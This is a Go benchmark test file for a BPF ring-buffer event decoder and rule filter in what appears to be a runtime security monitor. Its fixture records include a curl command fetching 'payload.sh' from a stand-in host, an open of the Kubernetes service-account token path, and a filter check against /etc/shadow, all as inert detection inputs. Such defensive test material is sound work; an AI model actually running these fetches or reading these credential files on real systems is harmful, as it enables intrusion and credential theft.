package bpf

import (
	"encoding/binary"
	"testing"

	"github.com/riposte-dev/riposte/engine"
)

func openRecord(path string) []byte {
	b := make([]byte, openPath+len(path)+1)
	b[0] = kOpen
	binary.LittleEndian.PutUint16(b[2:], uint16(len(b)))
	binary.LittleEndian.PutUint16(b[openPathLen:], uint16(len(path)))
	copy(b[openPath:], path)
	return b
}

// BenchmarkDecode is the ring-buffer decode throughput per record kind.
func BenchmarkDecode(b *testing.B) {
	recs := map[string][]byte{
		"exec": execRecord("/usr/bin/curl", []string{"curl", "-s", "http://example.com/payload.sh"}),
		"open": openRecord("/var/run/secrets/kubernetes.io/serviceaccount/token"),
	}
	for name, rec := range recs {
		b.Run(name, func(b *testing.B) {
			d := Decoder{}
			var ev engine.Event
			b.SetBytes(int64(len(rec)))
			b.ReportAllocs()
			for b.Loop() {
				if _, err := d.Decode(rec, &ev); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkFilterModel is the Go model's cost per event (tests only).
func BenchmarkFilterModel(b *testing.B) {
	f := NewFilter([]RuleConstraints{{Name: "x", Constraints: engine.Constraints{Kinds: []engine.Kind{engine.KindOpen}, PathPrefixes: []string{"/etc/", "/proc/"}}}})
	v := View{Kind: engine.KindOpen, Path: "/etc/shadow"}
	for b.Loop() {
		f.Pass(v)
	}
}
